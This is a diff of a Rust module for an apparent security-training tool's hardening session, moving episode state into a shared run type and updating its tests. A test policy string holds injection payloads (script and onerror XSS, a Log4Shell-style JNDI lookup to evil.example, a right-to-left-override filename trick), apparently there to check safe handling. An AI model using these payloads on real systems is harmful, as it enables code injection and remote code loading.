@@ -4,11 +4,11 @@
 //! Plain Rust, tested natively; the components only read it.
 
 use super::settings::{Decider, HardenSettings};
+use crate::play::run::{Run, Scored};
 use serde_json::Value;
-use ztgym::core::eval::trajectory_line;
-use ztgym::core::{Agent, Environment, Step};
+use ztgym::core::Agent;
 use ztgym::harden::agents::{builtin, Reviewer, REVIEWER_MAX_BREAKAGE};
-use ztgym::harden::env::{Candidate, Info, Observation};
+use ztgym::harden::env::Candidate;
 use ztgym::harden::metrics::{audit_records, Collector, Evaluation};
 use ztgym::harden::{Action, HardenEnv, Options, Scenario};
 use ztgym::rego::Policy;
@@ -24,33 +24,13 @@ deny contains "<script>alert('reason')</script> ${jndi:ldap://evil.example/a}" i
 deny contains "<img src=x onerror=alert(1)> \u202Egpj.exe" if true
 "#;
 
-/// One cycle played: the observation proposed on, the proposal and its result.
-#[derive(Clone, Debug)]
-pub struct Record {
-    pub observation: Observation,
-    pub action: Action,
-    pub step: Step<Observation, Info>,
-}
-
-/// Totals over the episodes played since the settings last changed.
-#[derive(Clone, Copy, Debug, Default, PartialEq)]
-pub struct RunStats {
-    pub episodes: u64,
-    pub cycles: u64,
-}
+/// A hardening episode scores its return.
+impl Scored for HardenEnv {}
 
 /// One hardening run.
 pub struct Session {
     settings: HardenSettings,
-    env: HardenEnv,
-    agent: Option<Box<dyn Agent<HardenEnv>>>,
-    observation: Observation,
-    info: Info,
-    log: Vec<Record>,
-    /// The risk score at the start and after each cycle of the episode.
-    risks: Vec<f64>,
-    metrics: Collector,
-    stats: RunStats,
+    run: Run<HardenEnv>,
 }
 
 impl Session {
@@ -82,23 +62,9 @@ impl Session {
             other => other,
         };
         let scenario = Scenario::load(settings.scenario).map_err(|e| e.to_string())?;
-        let mut env = HardenEnv::new(scenario).map_err(|e| e.to_string())?;
-        let (observation, info) = env.reset(settings.seed, options(&settings));
-        let mut session = Session {
-            settings,
-            env,
-            agent,
-            observation,
-            info,
-            log: Vec::new(),
-            risks: Vec::new(),
-            metrics: Collector::default(),
-            stats: RunStats::default(),
-        };
-        session.risks.push(session.observation.risk_score);
-        if let Some(a) = session.agent.as_mut() {
-            a.reset(session.settings.seed);
-        }
+        let env = HardenEnv::new(scenario).map_err(|e| e.to_string())?;
+        let run = Run::new(env, agent, settings.seed, options(&settings), None);
+        let mut session = Session { settings, run };
         if session.settings.hostile {
             session.set_policy(HOSTILE_POLICY)?;
         } else if let Some(text) = session.settings.rego.clone() {
@@ -111,62 +77,38 @@ impl Session {
         &self.settings
     }
 
-    /// Starts the episode again with the same seed (the policy in force stays).
-    pub fn restart(&mut self) {
-        let (observation, info) = self.env.reset(self.settings.seed, options(&self.settings));
-        self.observation = observation;
-        self.info = info;
-        self.log.clear();
-        self.risks = vec![self.observation.risk_score];
-        self.metrics = Collector::default();
-        if let Some(a) = self.agent.as_mut() {
-            a.reset(self.settings.seed);
-        }
-    }
-
-    /// Starts a new episode with `seed`.
-    pub fn set_seed(&mut self, seed: u64) {
-        self.settings.seed = seed;
-        self.restart();
-    }
-
-    /// Whether an agent proposes (not a person).
-    pub fn automated(&self) -> bool {
-        self.agent.is_some()
-    }
-
-    pub fn done(&self) -> bool {
-        self.log.last().is_some_and(|r| r.step.done())
-    }
-
     /// The policy in force: its name and text.
     pub fn policy(&self) -> &Policy {
-        self.env.policy()
+        self.run.env().policy()
     }
 
     /// Puts a policy in force from the next decision on; the candidates on screen (the
     /// current proposals, on which no step was taken yet) are judged again by it. A policy
     /// that does not load, or has no `allow`, changes nothing and the error is returned.
     pub fn set_policy(&mut self, text: &str) -> Result<(), String> {
-        let name = self.env.policy().name().to_string();
+        let name = self.policy().name().to_string();
         let policy = Policy::load(&name, text).map_err(|e| e.to_string())?;
-        self.env.set_policy(policy).map_err(|e| e.to_string())?;
+        self.run
+            .env_mut()
+            .set_policy(policy)
+            .map_err(|e| e.to_string())?;
         // The link carries an edited policy (the hostile hook's stands for itself).
         self.settings.rego = (!self.settings.hostile
             && Scenario::builtin_policy(self.settings.scenario) != Some(text))
         .then(|| text.to_string());
-        let cycle = self.info.cycle.take();
-        let (observation, mut info) = self.env.look();
+        // The last cycle stays on screen; the candidates are judged again.
+        let cycle = self.run.info().cycle.clone();
+        let (observation, mut info) = self.run.env_mut().look();
         info.cycle = cycle;
-        self.observation = observation;
-        self.info = info;
+        self.run.show(observation, info);
         Ok(())
     }
 
     /// The input the gate sees for candidate `index` now.
     pub fn gate_input(&self, index: usize) -> Option<Value> {
-        let c = self.observation.candidates.get(index)?;
-        Some(self.env.gate_input(&c.action, self.observation.risk_score))
+        let observation = self.run.observation();
+        let c = observation.candidates.get(index)?;
+        Some(self.run.env().gate_input(&c.action, observation.risk_score))
     }
 
     fn check_person(&self, index: usize) -> Result<Action, String> {
@@ -179,7 +121,8 @@ impl Session {
         if self.done() {
             return Err("The episode is over: press Reset or New seed for another.".into());
         }
-        self.observation
+        self.run
+            .observation()
             .candidates
             .get(index)
             .map(|c| c.action.clone())
@@ -192,7 +135,7 @@ impl Session {
             return Err("Recommend-only mode: Accept or Reject a recommendation.".into());
         }
         let action = self.check_person(index)?;
-        self.play(action)
+        self.run.act(action)
     }
 
     /// Recommend-only mode: a person accepts or rejects recommendation `index`.
@@ -202,130 +145,57 @@ impl Session {
         }
         let mut action = self.check_person(index)?;
         action.accepted = Some(accepted);
-        self.play(action)
-    }
-
-    fn play(&mut self, action: Action) -> Result<(), String> {
-        let step = self.env.step(&action).map_err(|e| e.to_string())?;
-        self.record(action, step);
-        Ok(())
-    }
-
-    /// One step of the agent; false when there is none or the episode is over.
-    pub fn agent_step(&mut self) -> bool {
-        if self.done() {
-            return false;
-        }
-        let Some(agent) = self.agent.as_mut() else {
-            return false;
-        };
-        let action = agent.act(&self.observation, &self.info);
-        match self.env.step(&action) {
-            Ok(step) => {
-                self.record(action, step);
-                true
-            }
-            Err(_) => false,
-        }
-    }
-
-    /// Runs up to `max_steps` agent steps; with `keep_going`, a finished episode is followed by
-    /// the next seed's. Returns the steps taken.
-    pub fn run(&mut self, max_steps: usize, keep_going: bool) -> usize {
-        crate::play::playable::run_agent_steps(
-            self,
-            max_steps,
-            keep_going,
-            Self::done,
-            |s| s.set_seed(s.settings.seed.wrapping_add(1)),
-            Self::agent_step,
-        )
-    }
-
-    fn record(&mut self, action: Action, step: Step<Observation, Info>) {
-        self.stats.cycles += 1;
-        if step.done() {
-            self.stats.episodes += 1;
-        }
-        if let Some(c) = &step.info.cycle {
-            self.metrics.add(c, step.cost);
-        }
-        self.risks.push(step.observation.risk_score);
-        let observation = std::mem::replace(&mut self.observation, step.observation.clone());
-        self.info = step.info.clone();
-        self.log.push(Record {
-            observation,
-            action,
-            step,
-        });
-    }
-
-    /// The candidates on screen now (the next cycle's proposals).
-    pub fn observation(&self) -> &Observation {
-        &self.observation
+        self.run.act(action)
     }
 
     pub fn candidates(&self) -> &[Candidate] {
-        &self.observation.candidates
-    }
-
-    pub fn info(&self) -> &Info {
-        &self.info
-    }
-
-    pub fn log(&self) -> &[Record] {
-        &self.log
-    }
-
-    pub fn stats(&self) -> RunStats {
-        self.stats
+        &self.run.observation().candidates
     }
 
     pub fn scenario(&self) -> &Scenario {
-        self.env.scenario()
+        self.run.env().scenario()
     }
 
     pub fn twin(&self) -> &ztgym::harden::twin::Twin {
-        self.env.twin()
+        self.run.env().twin()
     }
 
     /// The risk score at the start of the episode and after each cycle.
-    pub fn risks(&self) -> &[f64] {
-        &self.risks
+    pub fn risks(&self) -> Vec<f64> {
+        let first = self
+            .log()
+            .steps
+            .first()
+            .map_or(self.observation(), |r| &r.observation);
+        std::iter::once(first.risk_score)
+            .chain(
+                self.log()
+                    .steps
+                    .iter()
+                    .map(|r| r.step.observation.risk_score),
+            )
+            .collect()
     }
 
     /// Seed 001's evaluation over the episode's cycles so far.
     pub fn evaluation(&self) -> Evaluation {
-        self.metrics.finish()
-    }
-
-    pub fn episode_return(&self) -> f64 {
-        self.env.totals().episode_return
-    }
-
-    pub fn episode_cost(&self) -> f64 {
-        self.env.totals().episode_cost
-    }
-
-    /// The episode as `ztgym run` writes a trajectory: a JSON line per cycle.
-    pub fn trajectory_jsonl(&self) -> String {
-        let mut out = String::new();
-        for (t, r) in self.log.iter().enumerate() {
-            out.push_str(&trajectory_line(
-                t as u32,
-                &r.observation,
-                &r.action,
-                &r.step,
-            ));
-            out.push('\n');
+        let mut metrics = Collector::default();
+        for r in &self.log().steps {
+            if let Some(c) = &r.step.info.cycle {
+                metrics.add(c, r.step.cost);
+            }
         }
-        out
+        metrics.finish()
     }
 
     /// The episode as the seed's six audit tables: a JSON line per row, `decision_id` from 1.
     pub fn audit_jsonl(&self) -> String {
         let mut out = String::new();
-        let cycles = self.log.iter().filter_map(|r| r.step.info.cycle.as_deref());
+        let cycles = self
+            .log()
+            .steps
+            .iter()
+            .filter_map(|r| r.step.info.cycle.as_deref());
         for (k, c) in cycles.enumerate() {
             for row in audit_records(k as u64 + 1, c) {
                 out.push_str(&row.to_string());
@@ -343,9 +213,12 @@ fn options(s: &HardenSettings) -> Options {
     }
 }
 
+crate::page_session!(Session, HardenEnv, HardenSettings);
+
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::play::run::PageSession;
     use ztgym::harden::Stage;
 
     fn settings(agent: Decider) -> HardenSettings {
@@ -368,7 +241,7 @@ mod tests {
             .position(|c| c.allowed && c.forecast.pass && c.forecast.risk_delta < 0.0)
             .unwrap();
         s.propose(k).unwrap();
-        let c = s.log()[0].step.info.cycle.as_ref().unwrap();
+        let c = s.log().steps[0].step.info.cycle.as_ref().unwrap();
         assert!(c.decision.allowed && c.execution.executed, "{c:?}");
         assert!(c.after_risk < risk);
         assert_eq!(s.risks().len(), 2);
@@ -376,7 +249,7 @@ mod tests {
         assert_eq!(s.evaluation().gate_pass_rate, 1.0);
         assert!(s.propose(10_000).unwrap_err().contains("no such candidate"));
         assert!(s.answer(0, true).unwrap_err().contains("recommend-only"));
-        assert_eq!(s.log().len(), 1, "refusals change nothing");
+        assert_eq!(s.log().steps.len(), 1, "refusals change nothing");
     }
 
     #[test]
@@ -389,8 +262,8 @@ mod tests {
                 ..settings(Decider::Agent(agent))
             };
             let mut a = Session::new(st.clone()).unwrap();
-            let n = a.run(100_000, false);
-            assert!(a.done() && n == a.log().len() && n > 0, "{agent}");
+            let n = a.play(100_000, false);
+            assert!(a.done() && n == a.log().steps.len() && n > 0, "{agent}");
             let expected =
                 ztgym::harden::agents::builtin_trajectory(st.scenario, agent, 5, &options(&st))
                     .unwrap();
@@ -418,10 +291,10 @@ mod tests {
         );
         assert!(s.propose(0).unwrap_err().contains("Accept or Reject"));
         s.answer(0, false).unwrap();
-        let c = s.log()[0].step.info.cycle.as_ref().unwrap();
+        let c = s.log().steps[0].step.info.cycle.as_ref().unwrap();
         assert!(!c.execution.executed && c.proposal.accepted == Some(false));
         s.answer(0, true).unwrap();
-        let c = s.log()[1].step.info.cycle.as_ref().unwrap();
+        let c = s.log().steps[1].step.info.cycle.as_ref().unwrap();
         if c.decision.allowed && c.simulation.pass {
             assert!(c.execution.executed);
         }
@@ -451,7 +324,7 @@ mod tests {
         let input = s.gate_input(0).unwrap();
         assert_eq!(input["context"]["environment"], "prod");
         s.propose(0).unwrap();
-        let c = s.log()[0].step.info.cycle.as_ref().unwrap();
+        let c = s.log().steps[0].step.info.cycle.as_ref().unwrap();
         assert!(!c.decision.allowed && !c.execution.executed);
         s.restart();
         assert!(
@@ -483,7 +356,7 @@ mod tests {
     #[test]
     fn the_audit_has_the_six_tables_for_every_cycle() {
         let mut s = Session::new(settings(Decider::Agent("greedy"))).unwrap();
-        s.run(4, false);
+        s.play(4, false);
         let rows: Vec<Value> = s
             .audit_jsonl()
             .lines()
